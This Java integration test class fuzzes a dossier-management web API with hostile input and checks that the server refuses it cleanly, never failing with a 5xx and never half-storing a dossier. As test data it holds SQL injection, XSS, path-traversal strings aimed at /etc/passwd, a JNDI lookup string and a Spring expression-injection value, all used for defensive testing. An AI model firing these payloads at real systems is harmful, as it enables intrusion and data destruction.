package be.ibefe.avis.fiabilite;

import static org.assertj.core.api.Assertions.assertThat;

import be.ibefe.avis.bassin.AvisType;
import be.ibefe.avis.dossier.DossierRepository;
import be.ibefe.avis.support.Api;
import be.ibefe.avis.support.AvisIntegrationTest;
import be.ibefe.avis.support.Demandes;
import be.ibefe.avis.support.Fichiers;
import be.ibefe.avis.support.SeancesApi;
import be.ibefe.avis.support.Taches;
import be.ibefe.avis.support.Travaux;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.camunda.bpm.engine.HistoryService;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hostile and malformed input on every endpoint, from a seeded generator (the same inputs at every run): wrong
 * types, huge strings, unicode, SQL and script injection, path traversal, negative amounts, impossible dates,
 * wrong content types. Whatever comes, the answer is a 4xx problem+json or an accepted request, never a 5xx, and
 * no dossier is half stored.
 */
@AvisIntegrationTest
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class EntreesHostilesIT {

    static final String CATEGORIE = "Entrées hostiles";
    static final long GRAINE = 20261123L;
    static final ObjectMapper JSON = new ObjectMapper();
    static final JsonNodeFactory F = JsonNodeFactory.instance;

    @LocalServerPort
    int port;

    @Autowired
    Travaux travaux;

    @Autowired
    DossierRepository dossiers;

    @Autowired
    HistoryService historyService;

    @Autowired
    JdbcTemplate jdbc;

    Api api;

    /** Where this class starts: its own dossiers and processes are those after it. */
    static long dernierDossierAvant;
    static Set<String> processusAvant;

    @BeforeAll
    static void reperes(@Autowired JdbcTemplate jdbc) {
        dernierDossierAvant = jdbc.queryForObject("select coalesce(max(id), 0) from dossier", Long.class);
        // not by start time: some tests move the engine's clock
        processusAvant = new HashSet<>(jdbc.queryForList("select ID_ from ACT_HI_PROCINST", String.class));
    }

    @BeforeEach
    void client() {
        api = new Api(port);
    }

    /** Values no field expects, of every kind. */
    static List<JsonNode> valeursHostiles() {
        ArrayNode profond = F.arrayNode();
        ArrayNode courant = profond;
        for (int i = 0; i < 900; i++) {
            courant = courant.addArray();
        }
        return List.of(F.textNode(""), F.textNode("   "), F.textNode("x".repeat(100_000)),
                F.textNode("'; DROP TABLE dossier; --"), F.textNode("<script>alert('x')</script>"),
                F.textNode("../../../../etc/passwd"), F.textNode("a\u0000b"), F.textNode("😀🚀 \u202Eevil"),
                F.textNode("é".repeat(5000)), F.numberNode(-1), F.numberNode(-999_999_999_999L),
                F.numberNode(1e308), F.numberNode(0.123456789), F.booleanNode(true), F.nullNode(), F.arrayNode(),
                F.objectNode(), F.arrayNode().add(1).add("deux"), profond, F.textNode("2024-02-30"),
                F.textNode("9999-12-31"), F.textNode("0000-01-01"), F.textNode("26/03/2024"), F.textNode("NaN"),
                F.textNode("${jndi:ldap://exemple/a}"), F.textNode("#{T(java.lang.Runtime).getRuntime()}"));
    }

    @TestFactory
    Stream<DynamicTest> hostile_requests_to_register_a_dossier_never_break_the_server() {
        Random hasard = new Random(GRAINE);
        List<JsonNode> hostiles = valeursHostiles();
        List<DynamicTest> tests = new ArrayList<>();
        for (int i = 0; i < 160; i++) {
            ObjectNode demande = Demandes.pour(AvisType.values()[hasard.nextInt(AvisType.values().length)]);
            List<ObjectNode> parents = new ArrayList<>();
            List<String> champs = new ArrayList<>();
            collecter(demande, parents, champs);
            int cible = hasard.nextInt(champs.size());
            JsonNode valeur = hostiles.get(hasard.nextInt(hostiles.size()));
            String action = hasard.nextInt(5) == 0 ? "supprimé" : "remplacé";
            if (action.equals("supprimé")) {
                parents.get(cible).remove(champs.get(cible));
            } else {
                parents.get(cible).set(champs.get(cible), valeur);
            }
            String description = "%s.%s %s par %s".formatted(demande.get("type"), champs.get(cible), action,
                    resume(valeur));
            tests.add(DynamicTest.dynamicTest(description, () -> enregistrement(demande)));
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> malformed_bodies_and_wrong_content_types_are_refused_in_french() {
        Map<String, String[]> corps = Map.ofEntries(
                Map.entry("JSON tronqué", new String[] {"application/json", "{\"type\": \"CISP_AGREMENT\", \"objet\""}),
                Map.entry("JSON suivi de déchets", new String[] {"application/json", "{} ]]]"}),
                Map.entry("apostrophes au lieu de guillemets", new String[] {"application/json", "{'type': 'APRC'}"}),
                Map.entry("commentaire JSON", new String[] {"application/json", "/* x */ {}"}),
                Map.entry("tableau au lieu d'objet", new String[] {"application/json", "[1, 2, 3]"}),
                Map.entry("XML", new String[] {"application/xml", "<dossier><type>APRC</type></dossier>"}),
                Map.entry("texte", new String[] {"text/plain", "type=APRC"}),
                Map.entry("formulaire", new String[] {"application/x-www-form-urlencoded", "type=APRC&objet=x"}),
                Map.entry("multipart sans fichier", new String[] {"multipart/form-data; boundary=x", "--x--"}),
                Map.entry("corps vide", new String[] {"application/json", ""}),
                Map.entry("imbrication de 5000 niveaux", new String[] {"application/json", "{\"donnees\": "
                        + "[".repeat(5000) + "]".repeat(5000) + "}"}));
        return corps.entrySet().stream().map(e -> DynamicTest.dynamicTest(e.getKey(), () -> {
            long avant = dossiers.count();
            Api.Reponse reponse = api.postBrut("coordinateur", "/api/dossiers", e.getValue()[0], e.getValue()[1]);
            verifierRefus("POST /api/dossiers (corps mal formé)", reponse);
            assertThat(dossiers.count()).isEqualTo(avant);
        }));
    }

    @TestFactory
    Stream<DynamicTest> hostile_query_parameters_and_path_variables_never_break_the_server() {
        List<String> chemins = new ArrayList<>();
        for (JsonNode valeur : valeursHostiles()) {
            String texte = valeur.isTextual() ? valeur.asText() : valeur.toString();
            if (texte.length() > 2000) {
                continue;
            }
            String code = URLEncoder.encode(texte, StandardCharsets.UTF_8);
            chemins.add("/api/dossiers?q=" + code);
            chemins.add("/api/dossiers?type=" + code + "&statut=" + code);
            chemins.add("/api/dossiers?annee=" + code + "&page=" + code + "&size=" + code);
            chemins.add("/api/dossiers?sort=" + code);
            chemins.add("/api/dossiers/" + code);
            chemins.add("/api/taches?dossierId=" + code + "&page=" + code + "&size=" + code);
            chemins.add("/api/seances?annee=" + code);
            chemins.add("/api/seances/" + code);
            chemins.add("/api/metiers-prioritaires/" + code);
            chemins.add("/api/rapports/activite?annee=" + code + "&format=" + code);
            chemins.add("/api/mandats?chambre=" + code + "&date=" + code);
            chemins.add("/api/journal?depuis=" + code + "&jusqua=" + code);
        }
        chemins.add("/api/dossiers?page=-1&size=1000000");
        chemins.add("/api/dossiers/99999999999999999999999");
        return chemins.stream().map(chemin -> DynamicTest.dynamicTest("GET " + chemin.substring(0,
                Math.min(chemin.length(), 120)), () -> {
            Api.Reponse reponse = api.get("coordinateur", chemin);
            assertThat(reponse.status()).as(chemin + " → " + reponse.corps()).isLessThan(500);
            if (reponse.status() >= 400) {
                assertThat(reponse.estProbleme()).as(chemin).isTrue();
            }
            Fiabilite.compter(CATEGORIE, "GET " + chemin.substring(0, chemin.indexOf('?') < 0 ? chemin.lastIndexOf('/')
                    : chemin.indexOf('?')), classe(reponse.status()));
        }));
    }

    @TestFactory
    Stream<DynamicTest> hostile_form_values_on_a_task_never_complete_it_wrongly() {
        String dossier = api.post("coordinateur", "/api/dossiers", Demandes.cispNouvelleFiliere()).json().get("id")
                .asText();
        String chemin = new Taches(api, travaux).completer("analyste", dossier, "Task_VerifierRecevabilite");
        List<DynamicTest> tests = new ArrayList<>();
        for (JsonNode valeur : valeursHostiles()) {
            for (String champ : List.of("complet", "piecesManquantes", "inconnu")) {
                ObjectNode corps = F.objectNode().put("complet", false).put("piecesManquantes", "Budget");
                corps.set(champ, valeur);
                tests.add(DynamicTest.dynamicTest(champ + " = " + resume(valeur), () -> {
                    Api.Reponse reponse = api.post("analyste", chemin, corps);
                    assertThat(reponse.status()).as(reponse.corps()).isLessThan(500);
                    if (reponse.status() == 204) {
                        assertThat(corps.get("complet").isBoolean() || corps.get("complet").isNull()).isTrue();
                    } else {
                        verifierRefus("POST /api/taches/{id}/complete", reponse);
                    }
                    Fiabilite.compter(CATEGORIE, "POST /api/taches/{id}/complete", classe(reponse.status()));
                }));
            }
        }
        tests.add(DynamicTest.dynamicTest("tâche inexistante", () -> verifierRefus(
                "POST /api/taches/{id}/complete", api.post("analyste", "/api/taches/%27%3B--/complete", "{}"))));
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> hostile_files_and_file_names_are_refused_or_tamed() {
        String dossier = api.post("coordinateur", "/api/dossiers", Demandes.cispNouvelleFiliere()).json().get("id")
                .asText();
        String chemin = "/api/dossiers/" + dossier + "/documents";
        Random hasard = new Random(GRAINE);
        byte[] aleatoire = new byte[4096];
        hasard.nextBytes(aleatoire);
        List<String> noms = List.of("../../../etc/passwd.pdf", "..\\..\\windows\\system32\\x.pdf", "a".repeat(1000)
                + ".pdf", "\u0000.pdf", "😀.pdf", "<script>.pdf", "%2e%2e%2fx.pdf", "CON.pdf", ".pdf", "");
        List<DynamicTest> tests = new ArrayList<>();
        for (String nom : noms) {
            tests.add(DynamicTest.dynamicTest("nom « " + resume(F.textNode(nom)) + " »", () -> {
                Api.Reponse reponse = api.postFichier("analyste", chemin, "fichier", nom, Fichiers.pdf());
                assertThat(reponse.status()).as(reponse.corps()).isIn(201, 400);
                if (reponse.status() == 201) {
                    String garde = reponse.json().get("nom").asText();
                    assertThat(garde).doesNotContain("/", "\\", "\u0000", "..").hasSizeLessThanOrEqualTo(255);
                }
                Fiabilite.compter(CATEGORIE, "POST /api/dossiers/{id}/documents (nom)", classe(reponse.status()));
            }));
        }
        for (byte[] contenu : List.of(aleatoire, new byte[0], "<html><script>x</script></html>".getBytes(
                StandardCharsets.UTF_8), Fichiers.executable())) {
            tests.add(DynamicTest.dynamicTest("contenu de " + contenu.length + " octets", () -> {
                Api.Reponse reponse = api.postFichier("analyste", chemin, "fichier", "piece.pdf", contenu);
                verifierRefus("POST /api/dossiers/{id}/documents (contenu)", reponse);
            }));
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> hostile_seances_deliberations_and_reference_data_never_break_the_server() {
        String seance = new SeancesApi(api).creer("CSEF", "2024-05-28", List.of("membre1", "membre2", "membre3"))
                .get("id").asText();
        List<DynamicTest> tests = new ArrayList<>();
        for (JsonNode valeur : valeursHostiles()) {
            Map<String, Supplier<ObjectNode>> corps = Map.of(
                    "POST /api/seances", () -> F.objectNode().put("chambre", "CSEF").put("date", "2024-05-28")
                            .put("bassin", "LIE"),
                    "POST /api/bassins", () -> F.objectNode().put("code", "ZZH").put("nom", "Bassin hostile"),
                    "POST /api/seances/{id}/deliberations", () -> F.objectNode().put("dossierId", 1)
                            .put("decision", "FAVORABLE").put("motivation", "x").put("pour", 1),
                    "POST /api/metiers-prioritaires/{annee}", () -> F.objectNode().put("libelle", "Soudeur")
                            .put("action", "CREER"),
                    "POST /api/mandats", () -> F.objectNode().put("membre", "m").put("nom", "n").put("chambre", "CSEF")
                            .put("qualite", "q").put("voixDeliberative", true)
                            // far from the dates of the other tests: a mandate accepted here changes no quorum there
                            .put("debut", "2090-01-01").put("fin", "2090-12-31"),
                    "POST /api/dossiers/{id}/procedure-urgente", () -> {
                        ObjectNode urgence = F.objectNode().put("decision", "FAVORABLE").put("motivation", "x")
                                .put("justification", "y").put("date", "2024-06-03").put("pour", 2);
                        urgence.putArray("membresPresents").add("membre1").add("membre3");
                        return urgence;
                    });
            corps.forEach((point, modele) -> {
                ObjectNode exemple = modele.get();
                Iterator<String> noms = exemple.fieldNames();
                List<String> champs = new ArrayList<>();
                noms.forEachRemaining(champs::add);
                for (String champ : champs) {
                    ObjectNode hostile = modele.get();
                    hostile.set(champ, valeur);
                    String url = point.substring("POST ".length())
                            .replace("{id}", point.contains("seances") ? seance : "1").replace("{annee}", "2096");
                    tests.add(DynamicTest.dynamicTest(point + " " + champ + " = " + resume(valeur), () -> {
                        Api.Reponse reponse = api.post(point.contains("bassins") ? "admin" : "coordinateur", url,
                                hostile);
                        assertThat(reponse.status()).as(url + " " + reponse.corps()).isLessThan(500);
                        if (reponse.status() >= 400) {
                            assertThat(reponse.estProbleme()).isTrue();
                        }
                        Fiabilite.compter(CATEGORIE, point, classe(reponse.status()));
                    }));
                }
            });
        }
        return tests.stream();
    }

    @Test
    void a_script_typed_into_a_dossier_is_shown_as_text_never_run() {
        ObjectNode demande = Demandes.cispNouvelleFiliere().put("objet", "<script>alert('xss')</script>");
        ((ObjectNode) demande.get("demandeur")).put("nom", "<img src=x onerror=alert(1)>");
        String dossier = api.post("coordinateur", "/api/dossiers", demande).json().get("id").asText();
        Taches taches = new Taches(api, travaux);
        taches.terminer("analyste", dossier, "Task_VerifierRecevabilite", Map.of("complet", true));
        taches.terminer("analyste", dossier, "Task_AnalyserDossier", Map.of("propositionAvis", "FAVORABLE",
                "motivation", "<b>gras</b>"));
        String seance = new SeancesApi(api).creer("CSEF", "2024-05-28", List.of("membre1", "membre2", "membre3"))
                .get("id").asText();
        api.post("coordinateur", "/api/seances/" + seance + "/ordre-du-jour/" + dossier, "");

        String pv = api.get("coordinateur", "/api/seances/" + seance + "/proces-verbal").corps();

        assertThat(pv).contains("&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;", "&lt;img src=x")
                .doesNotContain("<script>alert", "<img src=x");
        assertThat(api.get("coordinateur", "/api/dossiers/" + dossier).json().get("objet").asText())
                .isEqualTo("<script>alert('xss')</script>");
        Fiabilite.compter(CATEGORIE, "script saisi dans un dossier, affiché au procès-verbal", "échappé");
    }

    /**
     * Last, and only over what this class stored: other tests share the database and start processes of their own
     * (the model administration tests use business keys that are not dossiers).
     */
    @Test
    @Order(Integer.MAX_VALUE)
    void after_all_that_every_dossier_has_its_process_and_every_process_its_dossier() {
        List<Long> sansProcessus = jdbc.queryForList("""
                select d.id from dossier d where d.id > ? and not exists (select 1 from ACT_HI_PROCINST p
                where p.BUSINESS_KEY_ = cast(d.id as varchar(20)) and p.SUPER_PROCESS_INSTANCE_ID_ is null)""",
                Long.class, dernierDossierAvant);
        List<String> sansDossier = jdbc.queryForList("""
                select p.ID_ from ACT_HI_PROCINST p where p.SUPER_PROCESS_INSTANCE_ID_ is null
                and p.BUSINESS_KEY_ is not null and not exists (select 1 from dossier d
                where cast(d.id as varchar(20)) = p.BUSINESS_KEY_)""", String.class).stream()
                .filter(id -> !processusAvant.contains(id)).toList();

        assertThat(sansProcessus).isEmpty();
        assertThat(sansDossier).isEmpty();
        Fiabilite.compter(CATEGORIE, "dossiers sans processus ou processus sans dossier", "aucun");
    }

    private void enregistrement(ObjectNode demande) {
        long avant = dossiers.count();
        Api.Reponse reponse = api.post("coordinateur", "/api/dossiers", demande);
        assertThat(reponse.status()).as(reponse.corps()).isLessThan(500);
        if (reponse.status() >= 400) {
            verifierRefus("POST /api/dossiers", reponse);
            assertThat(dossiers.count()).as("nothing stored").isEqualTo(avant);
        } else {
            JsonNode cree = reponse.json();
            assertThat(historyService.createHistoricProcessInstanceQuery()
                    .processInstanceBusinessKey(cree.get("id").asText()).rootProcessInstances().count())
                    .isEqualTo(1);
            if (reponse.status() == 201 && demande.path("objet").isTextual()) {
                assertThat(cree.get("objet").asText()).isEqualTo(demande.get("objet").asText().trim());
            }
            Fiabilite.compter(CATEGORIE, "POST /api/dossiers", classe(reponse.status()));
        }
    }

    private static void verifierRefus(String point, Api.Reponse reponse) {
        assertThat(reponse.status()).as(reponse.corps()).isBetween(400, 499);
        assertThat(reponse.estProbleme()).as(reponse.corps()).isTrue();
        assertThat(reponse.json().get("detail").asText()).isNotBlank();
        Fiabilite.compter(CATEGORIE, point, classe(reponse.status()));
    }

    private static String classe(int status) {
        return String.valueOf(status);
    }

    private static void collecter(ObjectNode noeud, List<ObjectNode> parents, List<String> champs) {
        noeud.fieldNames().forEachRemaining(nom -> {
            parents.add(noeud);
            champs.add(nom);
            JsonNode enfant = noeud.get(nom);
            if (enfant.isObject()) {
                collecter((ObjectNode) enfant, parents, champs);
            } else if (enfant.isArray() && !enfant.isEmpty() && enfant.get(0).isObject()) {
                collecter((ObjectNode) enfant.get(0), parents, champs);
            }
        });
    }

    private static String resume(JsonNode valeur) {
        String texte = valeur.toString();
        return texte.length() > 40 ? texte.substring(0, 37) + "…(" + texte.length() + ")" : texte;
    }
}
